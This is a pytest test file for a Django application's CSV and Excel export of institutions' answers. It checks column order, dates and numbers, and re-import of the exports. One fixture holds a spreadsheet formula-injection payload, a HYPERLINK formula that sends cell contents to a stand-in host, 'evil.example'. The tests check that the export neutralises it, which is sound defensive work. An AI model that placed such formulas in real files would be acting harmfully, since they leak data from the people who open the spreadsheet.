"""An institution's answers with their history as CSV and Excel, safe to open in a spreadsheet
and fit to import again."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from openpyxl import load_workbook

from institutions.exports import EXPORT_COLUMNS, answers_csv, answers_xlsx
from institutions.imports import import_answers
from institutions.models import Answer, AnswerReview, Institution, Membership
from themes.models import SectorTarget

pytestmark = pytest.mark.django_db

HEADER = [
    "institution",
    "target",
    "theme",
    "value",
    "applies_on",
    "explanation",
    "evidence_url",
    "entered_at",
    "entered_by",
    "source",
    "review",
]
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'


@pytest.fixture
def roc():
    return Institution.objects.create(
        code="25AB", name="ROC Fictief", kind="roc", active_from=datetime.date(2020, 1, 1)
    )


@pytest.fixture
def editor(roc):
    user = get_user_model().objects.create_user(username="cio@fictief.example", password="x")
    Membership.objects.create(user=user, institution=roc, role=Membership.Role.EDITOR)
    return user


@pytest.fixture
def answers(roc, editor):
    """Four answers of 25AB, oldest first, and one of another institution."""
    target = SectorTarget.objects.get
    entered = timezone.make_aware(datetime.datetime(2025, 3, 1, 10, 30))
    made = [
        Answer.objects.create(
            institution=roc,
            target=target(code="LZD-WALLET"),
            status="gepland",
            applies_on=datetime.date(2025, 1, 1),
            entered_at=entered,
            entered_by=editor,
            source="web",
        ),
        Answer.objects.create(
            institution=roc,
            target=target(code="LZD-WALLET"),
            status="gerealiseerd",
            explanation=HYPERLINK,
            evidence_url="https://example.org/wallet",
            applies_on=datetime.date(2025, 2, 1),
            entered_at=entered,
            entered_by=editor,
            source="web",
        ),
        Answer.objects.create(
            institution=roc,
            target=target(code="CYB-NBA-GEMIDDELD"),
            score=Decimal("2.5"),
            explanation="-5 punten t.o.v. vorig jaar; @team cyber",
            applies_on=datetime.date(2025, 2, 15),
            entered_at=entered,
            source="import",
        ),
        Answer.objects.create(
            institution=roc,
            target=target(code="DBO-EDU-V"),
            percentage=Decimal("45.50"),
            explanation="+10%\tgroei",
            applies_on=datetime.date(2025, 3, 1),
            entered_at=entered,
            entered_by=editor,
            source="web",
        ),
    ]
    other = Institution.objects.create(
        code="26CD", name="ROC Elders", kind="roc", active_from=datetime.date(2020, 1, 1)
    )
    Answer.objects.create(
        institution=other,
        target=target(code="LZD-WALLET"),
        status="gepland",
        applies_on=datetime.date(2025, 1, 1),
    )
    AnswerReview.objects.create(answer=made[1], decision="revisit", comment="Graag een bron")
    return made


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def test_the_csv_has_one_row_per_answer_newest_first_with_the_contract_columns(answers):
    content = answers_csv(Institution.objects.get(code="25AB"))
    rows = read_csv(content)

    assert list(EXPORT_COLUMNS) == HEADER
    assert rows[0] == HEADER
    assert b"\r\n" in content  # RFC 4180 line ends
    assert rows[1:] == [
        ["25AB", "DBO-EDU-V", "doorlopend-het-beste-onderwijs", "45.5", "2025-03-01",
         "'+10%\tgroei", "", "2025-03-01 10:30:00", "cio@fictief.example", "web", ""],
        ["25AB", "CYB-NBA-GEMIDDELD", "cyberweerbaarheid", "2.5", "2025-02-15",
         "'-5 punten t.o.v. vorig jaar; @team cyber", "", "2025-03-01 10:30:00", "", "import", ""],
        ["25AB", "LZD-WALLET", "leren-zonder-drempels", "gerealiseerd", "2025-02-01",
         "'" + HYPERLINK, "https://example.org/wallet", "2025-03-01 10:30:00",
         "cio@fictief.example", "web", "revisit"],
        ["25AB", "LZD-WALLET", "leren-zonder-drempels", "gepland", "2025-01-01", "", "",
         "2025-03-01 10:30:00", "cio@fictief.example", "web", ""],
    ]  # fmt: skip


def test_a_target_on_two_themes_names_both(roc):
    Answer.objects.create(
        institution=roc,
        target=SectorTarget.objects.get(code="DBO-CTL"),
        status="gepland",
        applies_on=datetime.date(2025, 1, 1),
    )
    [_header, row] = read_csv(answers_csv(roc))
    assert row[2] == "doorlopend-het-beste-onderwijs, samen-transformeren"


def test_an_institution_without_answers_gets_just_the_header(roc):
    assert read_csv(answers_csv(roc)) == [HEADER]


def test_the_xlsx_has_real_dates_and_numbers_a_frozen_header_and_a_filter(answers):
    workbook = load_workbook(io.BytesIO(answers_xlsx(Institution.objects.get(code="25AB"))))
    assert workbook.sheetnames == ["Antwoorden"]
    sheet = workbook["Antwoorden"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert rows[0] == HEADER
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K5"
    assert rows[1][:4] == ["25AB", "DBO-EDU-V", "doorlopend-het-beste-onderwijs", 45.5]
    assert rows[1][4] == datetime.datetime(2025, 3, 1)
    assert sheet["E2"].is_date
    assert rows[1][7] == datetime.datetime(2025, 3, 1, 10, 30)
    assert rows[2][3] == 2.5
    assert rows[3][3] == "gerealiseerd"
    assert rows[3][10] == "revisit"


def test_the_xlsx_neutralises_formulas_in_text(answers):
    sheet = load_workbook(io.BytesIO(answers_xlsx(Institution.objects.get(code="25AB")))).active
    explanations = [sheet.cell(row=row, column=6) for row in range(2, 6)]
    assert [cell.value for cell in explanations] == [
        "'+10%\tgroei",
        "'-5 punten t.o.v. vorig jaar; @team cyber",
        "'" + HYPERLINK,
        None,
    ]
    assert all(cell.data_type == "s" for cell in explanations[:3])  # text, not formula


def test_control_characters_excel_cannot_hold_are_dropped(roc):
    Answer.objects.create(
        institution=roc,
        target=SectorTarget.objects.get(code="LZD-WALLET"),
        status="gepland",
        explanation="regel\x0bnog een",
        applies_on=datetime.date(2025, 1, 1),
    )
    sheet = load_workbook(io.BytesIO(answers_xlsx(roc))).active
    assert sheet["F2"].value == "regelnog een"


FIELDS = ("target__code", "status", "score", "percentage", "applies_on", "explanation",
          "evidence_url")  # fmt: skip


@pytest.mark.parametrize(
    ("export", "filename"), [(answers_csv, "export.csv"), (answers_xlsx, "export.xlsx")]
)
def test_an_export_imports_again_with_the_same_answers(answers, editor, export, filename, settings):
    # The answers date from 2025: let this CIO's upload go back that far.
    settings.ROUTE_START, settings.ANSWER_MAX_BACKDATE_DAYS = "2020-01-01", 100_000
    roc = Institution.objects.get(code="25AB")
    exported = list(Answer.objects.filter(institution=roc).order_by("pk").values_list(*FIELDS))

    outcome = import_answers(export(roc), filename, user=editor)

    assert outcome.errors == []
    assert outcome.saved == 4
    imported = Answer.objects.filter(institution=roc, source="import", entered_by=editor)
    assert sorted(imported.values_list(*FIELDS)) == sorted(exported)
    # The quote that neutralised the formula on export is not stored on import.
    assert imported.filter(explanation=HYPERLINK).count() == 1
